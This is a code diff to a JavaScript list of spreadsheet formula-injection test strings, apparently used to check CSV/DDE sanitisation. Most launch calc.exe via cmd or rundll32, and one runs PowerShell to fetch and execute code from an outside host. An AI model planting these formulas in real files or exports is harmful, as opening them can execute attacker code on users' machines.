@@ -75,7 +75,7 @@ const PUBLISHED = [
   "=cmd|' /C calc'!A0",
   "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
   "+thespanishinquisition(cmd|'/c calc.exe'!A",
-  "         =         C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
+  "         =         C    m D                    |        '/        c       c  al  c      .  e       x  e  '   !   A",
   "=rundll32|'URL.dll,OpenURL calc.exe'!A",
   '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
   "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
